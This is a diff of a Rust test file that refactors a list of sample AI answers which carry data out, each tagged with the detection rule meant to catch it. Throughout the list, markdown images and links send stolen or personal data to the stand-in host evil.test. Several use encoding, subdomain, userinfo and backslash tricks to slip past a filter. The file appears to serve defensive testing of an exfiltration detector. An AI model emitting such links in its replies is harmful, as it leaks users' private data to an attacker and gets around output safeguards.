@@ -26,6 +26,15 @@ fn hex(text: &str) -> String {
 
 /// Answers that carry data out, each with the rule that finds it.
 fn attacks() -> Vec<(String, &'static str)> {
+    let mut all: Vec<_> = images()
+        .into_iter()
+        .map(|text| (text, "markdown-image"))
+        .collect();
+    all.extend(others());
+    all
+}
+
+fn images() -> Vec<String> {
     let data = stolen();
     let padded = BASE64_STANDARD.encode("the account of John Doe? 0042-1799>>");
     let padded = padded.replace('+', "%2B").replace('=', "%3D");
@@ -36,64 +45,32 @@ fn attacks() -> Vec<(String, &'static str)> {
         .collect();
     let long = "a.b/".repeat(600);
     [
-        (
-            format!("![a](https://evil.test/p.png?d={data})"),
-            "markdown-image",
-        ),
-        (
-            format!("![a](<https://evil.test/{data}>)"),
-            "markdown-image",
-        ),
-        (format!("![a]( //evil.test/{data} \"t\")"), "markdown-image"),
-        (
-            format!("![a](https:\\\\evil.test\\{data})"),
-            "markdown-image",
-        ),
-        (format!("![a](https:evil.test/{data})"), "markdown-image"),
-        (
-            format!("![a](HTTPS://evil.test/?q={padded})"),
-            "markdown-image",
-        ),
-        (format!("![a](https://evil.test/?{hex})"), "markdown-image"),
-        (
-            format!("![a](https://evil.test/{letters})"),
-            "markdown-image",
-        ),
-        (format!("![a](https://{data}.evil.test/)"), "markdown-image"),
-        (format!("![a](https://{hex}.evil.test/)"), "markdown-image"),
-        (format!("![a](https://evil.test/{long})"), "markdown-image"),
-        (
-            "![a](https://evil.test/?q=the+user+said+her+name+is+Jane)".into(),
-            "markdown-image",
-        ),
-        (
-            "![a](<https://evil.test/?q=the user said her name is Jane>)".into(),
-            "markdown-image",
-        ),
-        (
-            format!("![{}](https://evil.test/?q={HASH})", "x".repeat(300)),
-            "markdown-image",
-        ),
-        (
-            format!("![a](https://cdn.acme.test@evil.test/?q={data})"),
-            "markdown-image",
-        ),
-        (
-            "![a](https://cdn.acme.test@evil.test/p.png)".into(),
-            "markdown-image",
-        ),
-        (
-            format!("![a](https://evil.test\\@cdn.acme.test/?q={data})"),
-            "markdown-image",
-        ),
-        (
-            format!("![a](https://cdn.acme.test.evil.test/?q={data})"),
-            "markdown-image",
-        ),
-        (
-            format!("![a](https://trusted.test/?q={data})"),
-            "markdown-image",
-        ),
+        format!("![a](https://evil.test/p.png?d={data})"),
+        format!("![a](<https://evil.test/{data}>)"),
+        format!("![a]( //evil.test/{data} \"t\")"),
+        format!("![a](https:\\\\evil.test\\{data})"),
+        format!("![a](https:evil.test/{data})"),
+        format!("![a](HTTPS://evil.test/?q={padded})"),
+        format!("![a](https://evil.test/?{hex})"),
+        format!("![a](https://evil.test/{letters})"),
+        format!("![a](https://{data}.evil.test/)"),
+        format!("![a](https://{hex}.evil.test/)"),
+        format!("![a](https://evil.test/{long})"),
+        "![a](https://evil.test/?q=the+user+said+her+name+is+Jane)".into(),
+        "![a](<https://evil.test/?q=the user said her name is Jane>)".into(),
+        format!("![{}](https://evil.test/?q={HASH})", "x".repeat(300)),
+        format!("![a](https://cdn.acme.test@evil.test/?q={data})"),
+        "![a](https://cdn.acme.test@evil.test/p.png)".into(),
+        format!("![a](https://evil.test\\@cdn.acme.test/?q={data})"),
+        format!("![a](https://cdn.acme.test.evil.test/?q={data})"),
+        format!("![a](https://trusted.test/?q={data})"),
+    ]
+    .to_vec()
+}
+
+fn others() -> Vec<(String, &'static str)> {
+    let data = stolen();
+    [
         (
             format!("[![x](https://cdn.acme.test/i.png)](https://evil.test/?q={data})"),
             "markdown-link",
